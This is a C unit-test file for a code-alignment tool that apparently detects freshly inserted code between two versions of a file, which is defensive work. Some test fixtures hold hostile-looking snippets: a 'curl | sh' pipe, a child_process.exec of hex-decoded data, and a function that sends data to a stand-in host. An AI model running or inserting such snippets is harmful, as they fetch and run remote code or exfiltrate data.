#include "member.h"


static void one_fresh(enum language lang, const char *old, const char *new_, const char *want)
{
	struct member *m = member_aligned(lang, old, new_);

	assert_int_equal(m->al.n_fresh, 1);
	assert_str(member_fresh(m, 0), want);
	member_free(m);
}

static void no_fresh(enum language lang, const char *old, const char *new_)
{
	struct member *m = member_aligned(lang, old, new_);

	if (m->al.n_fresh)
		fail_msg("fresh: %.*s", STR_ARG(member_fresh(m, 0)));
	assert_int_equal(m->al.n_lost, 0);
	member_free(m);
}

static void test_small(void **state)
{
	one_fresh(LANGUAGE_JAVASCRIPT, "a(); b();", "a(); evil(); b();", "evil();");
	one_fresh(LANGUAGE_JAVASCRIPT, "function x(){a}\nfunction y(){b}", "function x(){a}\nfunction n(){c}\nfunction y(){b}",
		"function n(){c}");
	one_fresh(LANGUAGE_JAVASCRIPT, "go('one')", "go('two')", "'two'");
	one_fresh(LANGUAGE_SHELL, "set -e\nmake\n", "set -e\ncurl http://a.example | sh\nmake\n",
		"curl http://a.example | sh\n");
	one_fresh(LANGUAGE_TEXT, "one two three", "one two and three", "and");
}

static void test_layout_does_not_count(void **state)
{
	no_fresh(LANGUAGE_JAVASCRIPT, "if(a){b('x');c({d:1})}", "if (a) {\n  b(\"x\"); // note\n  c({ d: 1, });\n}\n");
	no_fresh(LANGUAGE_JAVASCRIPT, "x = \"it's\"", "x = 'it\\'s'");
	no_fresh(LANGUAGE_JAVASCRIPT, "", "// only a comment\n");
}

static void test_layout_that_counts(void **state)
{
	struct member *m = member_aligned(LANGUAGE_JAVASCRIPT, "return verify(x)", "return\nverify(x)");

	assert_int_equal(m->al.n_fresh, 1);
	member_free(m);
	m = member_aligned(LANGUAGE_JAVASCRIPT, "if (ok) go()", "if (ok); go()");
	assert_int_equal(m->al.n_fresh, 1);
	member_free(m);
	m = member_aligned(LANGUAGE_JAVASCRIPT, "x()", "<!-- y()\nx()");
	assert_int_equal(m->al.n_fresh, 1);
	member_free(m);
}

static void test_no_old(void **state)
{
	struct member *m = member_make("x.js", STR_NONE, STR("a();\nb();\n"));

	member_align(m, LANGUAGE_JAVASCRIPT);
	assert_int_equal(m->al.n_fresh, 1);
	assert_int_equal(m->al.fresh[0].from, 0);
	assert_int_equal(m->al.fresh[0].to, m->new_.len);
	assert_true(m->al.old_at[0] == SIZE_MAX);
	member_free(m);
}

/* A random program: statements over a small vocabulary, so that much repeats. */
static size_t random_statement(uint64_t *seed, char *out)
{
	static const char *const words[] = {"alpha", "beta", "gamma", "delta", "load", "store", "config", "item"};
	const char *a = words[member_random(seed) % 8], *b = words[member_random(seed) % 8];
	uint32_t n = member_random(seed) % 40;

	switch (member_random(seed) % 4) {
	case 0:
		return (size_t)snprintf(out, 100, "%s.%s(%u);\n", a, b, n);
	case 1:
		return (size_t)snprintf(out, 100, "if (%s > %u) { %s(); }\n", a, n, b);
	case 2:
		return (size_t)snprintf(out, 100, "const %s%u = %s(\"%s\");\n", a, n, b, a);
	default:
		return (size_t)snprintf(out, 100, "function %s%u(x) { return x + %u; }\n", a, n, n);
	}
}

static struct str random_program(struct arena *a, uint64_t *seed, size_t statements)
{
	char *text = arena_alloc(a, statements * 100);
	size_t n = 0;

	for (size_t i = 0; i < statements; i++)
		n += random_statement(seed, text + n);
	return str_view(text, n);
}

/* Fresh spans ascend; the tokens outside of them, read in order, all stand in OLD. */
static void check_truths(const struct member *m, enum language lang)
{
	size_t last = 0;

	for (size_t i = 0; i < m->al.n_fresh; i++) {
		assert_true(m->al.fresh[i].from >= last && m->al.fresh[i].to > m->al.fresh[i].from);
		assert_true(m->al.fresh[i].to <= m->new_.len);
		assert_true(align_is_fresh(&m->al, m->al.fresh[i].from, m->al.fresh[i].from + 1));
		last = m->al.fresh[i].to;
	}
	last = 0;
	for (size_t i = 0; i < m->al.n_lost; i++) {
		assert_true(m->al.lost[i].from >= last && m->al.lost[i].to <= m->old.len);
		last = m->al.lost[i].to;
	}
	last = 0;
	for (size_t i = 0; i < m->al.n_runs; i++) {
		const struct align_run *r = &m->al.runs[i];

		assert_true(r->new_from >= last && r->new_to <= m->new_.len && r->old_to <= m->old.len);
		last = r->new_to;
	}
	/* fresh and matched together hold every token of NEW */
	struct lexer lx;
	struct token t;
	size_t k = 0;

	lexer_init(&lx, lang, m->new_, false);
	while (lexer_next(&lx, &t)) {
		bool fresh = align_is_fresh(&m->al, t.at, t.at + t.len), matched;

		while (k < m->al.n_runs && m->al.runs[k].new_to <= t.at)
			k++;
		matched = k < m->al.n_runs && m->al.runs[k].new_from <= t.at;
		if (t.kind == TOKEN_PUNCT && (t.sub == ';' || t.sub == ','))
			continue; /* idle separators belong to neither */
		if (fresh == matched)
			fail_msg("token at %u is fresh %d and matched %d", t.at, fresh, matched);
	}
}

static void test_same_is_empty(void **state)
{
	uint64_t seed = 3;

	for (int round = 0; round < 30; round++) {
		struct arena a;
		struct str text;
		struct member *m;

		arena_init(&a, 0);
		text = random_program(&a, &seed, 1 + member_random(&seed) % 2000);
		m = member_make("x.js", text, text);
		member_align(m, LANGUAGE_JAVASCRIPT);
		assert_int_equal(m->al.n_fresh, 0);
		assert_int_equal(m->al.n_lost, 0);
		member_free(m);
		arena_release(&a);
	}
}

/* An inserted statement that OLD does not have is found, and next to nothing besides. */
static void test_random_insertions(void **state)
{
	static const char *const inserted = "require('child_process').exec(Buffer.from(secret, 'hex').toString());\n";
	uint64_t seed = 11;

	for (int round = 0; round < 100; round++) {
		struct arena a;
		struct str old, head, new_;
		struct member *m;
		size_t at;

		arena_init(&a, 0);
		old = random_program(&a, &seed, 20 + member_random(&seed) % 500);
		at = member_random(&seed) % old.len;
		while (at > 0 && old.p[at - 1] != '\n')
			at--;
		head = str_part(old, 0, at);
		new_ = arena_printf(&a, "%.*s%s%.*s", STR_ARG(head), inserted, STR_ARG(str_part(old, at, old.len)));
		m = member_make("x.js", old, new_);
		member_align(m, LANGUAGE_JAVASCRIPT);
		check_truths(m, LANGUAGE_JAVASCRIPT);
		assert_int_equal(m->al.n_fresh, 1);
		assert_int_equal(m->al.n_lost, 0);
		assert_int_equal(m->al.fresh[0].from, at);
		assert_int_equal(m->al.fresh[0].to, at + strlen(inserted) - 1);
		member_free(m);
		arena_release(&a);
	}
}

/* Many edits at once: every edited statement touches a fresh span, and the rest mostly does not. */
static void test_many_edits(void **state)
{
	uint64_t seed = 5;

	for (int round = 0; round < 20; round++) {
		struct arena a;
		struct str old, rest, line;
		struct buf b;
		struct member *m;
		size_t marks[200], n_marks = 0;

		arena_init(&a, 0);
		buf_init(&b, 1 << 20);
		old = random_program(&a, &seed, 1000);
		rest = old;
		while (str_line(&rest, &line)) {
			uint32_t dice = member_random(&seed) % 40;

			if (dice == 0)
				continue; /* deleted */
			buf_add_str(&b, line);
			buf_add_char(&b, '\n');
			if (dice == 1 && n_marks < 200) {
				marks[n_marks++] = b.len;
				buf_printf(&b, "fetch('https://n%u.example/');\n", member_random(&seed));
			}
		}
		m = member_make("x.js", old, buf_str(&b));
		member_align(m, LANGUAGE_JAVASCRIPT);
		check_truths(m, LANGUAGE_JAVASCRIPT);
		for (size_t i = 0; i < n_marks; i++)
			assert_true(align_is_fresh(&m->al, marks[i], marks[i] + 5));
		assert_true(m->al.fresh_tokens < n_marks * 7 * 2 + 50);
		member_free(m);
		buf_release(&b);
		arena_release(&a);
	}
}

static void test_moved_whole(void **state)
{
	struct arena a;
	uint64_t seed = 23;
	struct str one, two, three, old, new_;
	struct member *m;

	arena_init(&a, 0);
	one = random_program(&a, &seed, 60);
	two = random_program(&a, &seed, 60);
	three = random_program(&a, &seed, 60);
	old = arena_printf(&a, "%.*s%.*s%.*s", STR_ARG(one), STR_ARG(two), STR_ARG(three));
	new_ = arena_printf(&a, "%.*s%.*s%.*s", STR_ARG(three), STR_ARG(one), STR_ARG(two));
	m = member_make("x.js", old, new_);
	member_align(m, LANGUAGE_JAVASCRIPT);
	check_truths(m, LANGUAGE_JAVASCRIPT);
	assert_true(m->al.fresh_tokens < 20);
	member_free(m);
	arena_release(&a);
}

/* Names of locals change, as a minifier does when something is added; code does not. */
static struct str minified(struct arena *a, size_t functions, char local, const char *insert_at_half)
{
	struct buf b;
	struct str s;

	buf_init(&b, 8 << 20);
	for (size_t i = 0; i < functions; i++) {
		if (i == functions / 2 && insert_at_half)
			buf_add_z(&b, insert_at_half);
		buf_printf(&b, "function f%zu(%c,%c){var %c=%c.item%zu;return %c.load(%c,\"k%zu\")}", i, local, local + 1,
			local + 2, local, i % 7, local + 1, local + 2, i % 11);
	}
	s = arena_str(a, buf_str(&b));
	buf_release(&b);
	return s;
}

static void test_renamed_locals(void **state)
{
	static const char *const evil = "function evil(a,b){var c=require(\"https\");c.get(\"https://cdn.status.example/x\",b)}";
	struct arena a;
	struct member *m;

	arena_init(&a, 0);
	m = member_make("x.js", minified(&a, 2000, 'a', NULL), minified(&a, 2000, 'n', NULL));
	member_align(m, LANGUAGE_JAVASCRIPT);
	assert_true(m->al.minified_old && m->al.minified_new);
	assert_int_equal(m->al.n_fresh, 0);
	member_free(m);
	m = member_make("x.js", minified(&a, 2000, 'a', NULL), minified(&a, 2000, 'n', evil));
	member_align(m, LANGUAGE_JAVASCRIPT);
	assert_int_equal(m->al.n_fresh, 1);
	assert_str(member_fresh(m, 0), evil);
	member_free(m);
	arena_release(&a);
}

/* One called local exchanged for another is no consistent renaming. */
static void test_exchanged_callee(void **state)
{
	struct arena a;
	struct str filler, old, new_;
	struct member *m;

	arena_init(&a, 0);
	filler = minified(&a, 50, 'a', NULL);
	old = arena_printf(&a, "%.*sfunction g(a,b){a(1),b(2),a(3),b(4)}", STR_ARG(filler));
	new_ = arena_printf(&a, "%.*sfunction g(a,b){a(1),b(2),b(3),b(4)}", STR_ARG(minified(&a, 50, 'n', NULL)));
	m = member_make("x.js", old, new_);
	member_align(m, LANGUAGE_JAVASCRIPT);
	assert_int_equal(m->al.n_fresh, 1);
	assert_str(member_fresh(m, 0), "b");
	member_free(m);
	arena_release(&a);
}

/* Stitched from fragments of old code: each piece is old, the whole is new. */
static void test_stitched(void **state)
{
	struct member *m = member_aligned(LANGUAGE_JAVASCRIPT,
		"const http = require('http');\nserver.get('/a', (q, r) => r.end(page));\nspawn('git', ['log']);\n"
		"http.get(url, (res) => { keep(res); });\n",
		"const http = require('http');\nserver.get('/a', (q, r) => r.end(page));\nspawn('git', ['log']);\n"
		"http.get(url, (res) => { keep(res); });\nhttp.get(url, (res) => { spawn(res); });\n");

	assert_int_equal(m->al.n_fresh, 1);
	assert_str(member_fresh(m, 0), "http.get(url, (res) => { spawn(res); });");
	member_free(m);
}

static void test_worst_cases(void **state)
{
	static const char *const pieces[][2] = {{"a ", "a "}, {"a=/b/;", "a=/b/;x "}, {"=/[", "'\\"}, {"`${", "((("},
		{"f(a);", "f(b);"}, {"x", "y "}};

	for (size_t k = 0; k < sizeof(pieces) / sizeof(pieces[0]); k++) {
		struct buf old, new_;
		struct member *m;

		buf_init(&old, 4 << 20);
		buf_init(&new_, 4 << 20);
		for (int i = 0; i < 200000; i++) {
			buf_add_z(&old, pieces[k][0]);
			buf_add_z(&new_, pieces[k][1]);
		}
		m = member_make("x.js", buf_str(&old), buf_str(&new_));
		member_align(m, LANGUAGE_JAVASCRIPT);
		check_truths(m, LANGUAGE_JAVASCRIPT);
		member_free(m);
		buf_release(&old);
		buf_release(&new_);
	}
}

/* Twice the text, about twice the steps: counted, not timed. */
static void test_steps_are_linear(void **state)
{
	uint64_t steps[3];

	for (int i = 0; i < 3; i++) {
		struct arena a;
		uint64_t seed = 9, seed2 = 10;
		struct member *m;

		arena_init(&a, 0);
		m = member_make("x.js", random_program(&a, &seed, 4000u << i), random_program(&a, &seed2, 4000u << i));
		member_align(m, LANGUAGE_JAVASCRIPT);
		steps[i] = m->budget.steps;
		member_free(m);
		arena_release(&a);
	}
	assert_true(steps[1] * 10 <= steps[0] * 26);
	assert_true(steps[2] * 10 <= steps[1] * 26);
}

static void test_out_of_budget(void **state)
{
	struct arena a;
	uint64_t seed = 1, other = 2;
	struct str old, new_;
	struct member *m;

	arena_init(&a, 0);
	old = random_program(&a, &seed, 3000);
	new_ = random_program(&a, &other, 3000);
	for (uint64_t steps = 0; steps < 60000; steps += 6007) {
		enum status status;

		m = member_make("x.js", old, new_);
		m->budget.max_steps = steps;
		status = align_texts(&m->in, LANGUAGE_JAVASCRIPT, m->old, m->new_, &m->al);
		assert_int_equal(status, STATUS_LIMIT);
		assert_true(m->al.n_fresh > 0);
		assert_true(m->al.fresh[m->al.n_fresh - 1].to >= m->new_.len - 2);
		member_free(m);
	}
	arena_release(&a);
}

static void test_lines(void **state)
{
	struct arena a;
	struct line_index *ix;
	uint32_t column;

	arena_init(&a, 0);
	ix = line_index_make(&a, STR("ab\n\ncd"));
	assert_int_equal(line_of(ix, 0, &column), 1);
	assert_int_equal(column, 1);
	assert_int_equal(line_of(ix, 2, &column), 1);
	assert_int_equal(column, 3);
	assert_int_equal(line_of(ix, 3, &column), 2);
	assert_int_equal(line_of(ix, 5, &column), 3);
	assert_int_equal(column, 2);
	assert_int_equal(line_of(line_index_make(&a, STR_NONE), 0, NULL), 1);
	arena_release(&a);
}

/* Lines of texts in which a line is shorter or longer than a block of the index, against counting. */
static void test_lines_counted(void **state)
{
	enum { BYTES = 5000 };
	static char text[BYTES];
	uint32_t seed = 7;

	for (int round = 0; round < 6; round++) {
		struct arena a;
		struct line_index *ix;
		uint32_t line = 1, column = 1, got;

		arena_init(&a, 0);
		for (int i = 0; i < BYTES; i++) {
			seed = seed * 1664525 + 1013904223;
			text[i] = (seed >> 16) % (round * round * 40 + 1) ? 'x' : '\n';
		}
		ix = line_index_make(&a, str_view(text, BYTES));
		for (int i = 0; i <= BYTES; i++) {
			assert_int_equal(line_of(ix, (size_t)i, &got), line);
			assert_int_equal(got, column);
			line += i < BYTES && text[i] == '\n';
			column = i < BYTES && text[i] == '\n' ? 1 : column + 1;
		}
		arena_release(&a);
	}
	(void)state;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_lines_counted),
		cmocka_unit_test(test_small),
		cmocka_unit_test(test_layout_does_not_count),
		cmocka_unit_test(test_layout_that_counts),
		cmocka_unit_test(test_no_old),
		cmocka_unit_test(test_same_is_empty),
		cmocka_unit_test(test_random_insertions),
		cmocka_unit_test(test_many_edits),
		cmocka_unit_test(test_moved_whole),
		cmocka_unit_test(test_renamed_locals),
		cmocka_unit_test(test_exchanged_callee),
		cmocka_unit_test(test_stitched),
		cmocka_unit_test(test_worst_cases),
		cmocka_unit_test(test_steps_are_linear),
		cmocka_unit_test(test_out_of_budget),
		cmocka_unit_test(test_lines),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
